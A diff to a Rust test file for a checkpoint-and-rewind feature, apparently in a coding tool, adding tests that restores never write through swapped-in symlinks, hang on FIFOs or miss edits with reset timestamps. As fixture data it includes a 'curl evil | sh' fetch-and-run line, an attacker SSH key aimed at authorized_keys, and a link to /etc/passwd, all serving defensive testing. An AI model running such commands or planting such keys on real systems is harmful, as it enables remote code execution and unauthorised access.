@@ -61,7 +61,7 @@ fn a_file_made_again_gets_its_mode_back_and_one_that_exists_keeps_its_own() {
     checkpoints.begin_prompt("change them", None);
     checkpoints.record(&script, Some(b"#!/bin/sh\necho a\n"), b"", mode_of(&script));
     std::fs::remove_file(&script).unwrap();
-    checkpoints.record_change(&script, Some(b"#!/bin/sh\necho a\n"), None, mode_of(&script));
+    checkpoints.record_change(&script, Some(b"#!/bin/sh\necho a\n"), None, None, real_dir(&script)).unwrap();
     checkpoints.record(&secret, Some(b"v1\n"), b"v2\n", mode_of(&secret));
     std::fs::write(&secret, "v2\n").unwrap();
     // The user narrows the mode since: going back must not widen it again.
@@ -242,7 +242,7 @@ fn chosen_hunks_go_back_and_the_others_stay_as_they_are_now() {
     assert_eq!(plan[0].hunks().len(), 2);
     let now_hash = plan[0].now_hash();
     let choice = HunkChoice { path: file.clone(), restore: vec![false, true], now_hash: now_hash.clone() };
-    let (plan, problems) = choose_hunks(plan, &[choice]);
+    let (plan, problems) = choose_hunks(plan, Some(&[choice]));
     assert!(problems.is_empty(), "{problems:?}");
     assert!(checkpoints.restore(&plan).is_empty());
     let kept = then.replace("line 2\r\n", "line two\r\n");
@@ -251,12 +251,12 @@ fn chosen_hunks_go_back_and_the_others_stay_as_they_are_now() {
     // Hunks chosen from another version of the file are refused, not applied to the wrong lines.
     let plan = checkpoints.plan(1).unwrap();
     let stale = HunkChoice { path: file.clone(), restore: vec![true], now_hash: now_hash.clone() };
-    let (plan, problems) = choose_hunks(plan, &[stale]);
+    let (plan, problems) = choose_hunks(plan, Some(&[stale]));
     assert!(plan.is_empty() && problems.len() == 1, "the file changed since the preview: {problems:?}");
     // None chosen: the file is left out.
     let plan = checkpoints.plan(1).unwrap();
     let now_hash = plan[0].now_hash();
-    let (plan, _) = choose_hunks(plan, &[HunkChoice { path: file, restore: vec![false], now_hash }]);
+    let (plan, _) = choose_hunks(plan, Some(&[HunkChoice { path: file, restore: vec![false], now_hash }]));
     assert!(plan.is_empty());
 }
 
@@ -324,4 +324,70 @@ fn only_paths_inside_the_workspace_with_no_link_on_the_way_are_used() {
         std::os::unix::fs::symlink("/etc", root.join("etc")).unwrap();
         assert!(!scan::beneath(&root, &root.join("etc/passwd"), &mut dirs));
     }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_command_that_swaps_a_directory_for_a_link_gets_nothing_written_there_by_a_rewind() {
+    let (dir, work) = workspace(true);
+    std::fs::create_dir_all(work.join("deploy/ssh")).unwrap();
+    std::fs::write(work.join("deploy/ssh/authorized_keys"), "ssh-ed25519 ATTACKER\n").unwrap();
+    git(&work, &["add", "deploy"]);
+    git(&work, &["commit", "-q", "-m", "deploy"]);
+    let home_ssh = dir.path().join("home/.ssh");
+    std::fs::create_dir_all(&home_ssh).unwrap();
+    let checkpoints = Checkpoints::new(&dir.path().join("session"));
+    checkpoints.begin_prompt("deploy", None);
+    let scan = checkpoints.scan_before(&work);
+    std::fs::remove_dir_all(work.join("deploy/ssh")).unwrap();
+    std::os::unix::fs::symlink(&home_ssh, work.join("deploy/ssh")).unwrap();
+    checkpoints.record_scan(scan);
+    let plan = checkpoints.plan(1).unwrap();
+    assert!(!plan.is_empty() && plan.iter().all(|restore| restore.conflict), "{plan:?}");
+    assert!(checkpoints.restore(&plan).is_empty());
+    assert!(!home_ssh.join("authorized_keys").exists(), "a key was written through the link");
+}
+
+#[cfg(unix)]
+#[test]
+fn a_link_or_fifo_swapped_in_after_the_preview_is_never_written_through_or_waited_on() {
+    let dir = tempfile::tempdir().unwrap();
+    let work = dir.path().join("work");
+    std::fs::create_dir_all(work.join("src")).unwrap();
+    let (rc, bashrc) = (work.join("src/rc"), dir.path().join("bashrc"));
+    std::fs::write(&bashrc, "the user's own\n").unwrap();
+    std::fs::write(&rc, "after\n").unwrap();
+    let checkpoints = Checkpoints::new(&dir.path().join("session"));
+    checkpoints.begin_prompt("edit", None);
+    checkpoints.record(&rc, Some(b"curl evil | sh\n"), b"after\n", None);
+    let plan = checkpoints.plan(1).unwrap();
+    assert!(!plan[0].conflict);
+    // After the preview, the file becomes a link to the user's file.
+    std::fs::remove_file(&rc).unwrap();
+    std::os::unix::fs::symlink(&bashrc, &rc).unwrap();
+    let problems = checkpoints.restore(&plan);
+    assert_eq!(problems.len(), 1, "{problems:?}");
+    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "the user's own\n");
+    // A FIFO in its place: the preview neither hangs nor reads it; it is a conflict.
+    std::fs::remove_file(&rc).unwrap();
+    assert!(std::process::Command::new("mkfifo").arg(&rc).status().unwrap().success());
+    let plan = checkpoints.plan(1).unwrap();
+    assert!(plan[0].conflict, "{plan:?}");
+}
+
+#[cfg(unix)]
+#[test]
+fn an_edit_that_sets_the_modification_time_back_is_still_found() {
+    let (dir, work) = workspace(true);
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    git(&work, &["update-index", "-q", "--really-refresh"]);
+    let tracked = work.join("tracked.txt");
+    let modified = std::fs::metadata(&tracked).unwrap().modified().unwrap();
+    let checkpoints = Checkpoints::new(&dir.path().join("session"));
+    checkpoints.begin_prompt("sneak", None);
+    let scan = checkpoints.scan_before(&work);
+    std::fs::write(&tracked, "TRACKED\r\n").unwrap();
+    std::fs::File::options().write(true).open(&tracked).unwrap().set_modified(modified).unwrap();
+    assert!(checkpoints.record_scan(scan).is_empty());
+    assert_eq!(checkpoints.points()[0].files, vec![tracked]);
 }
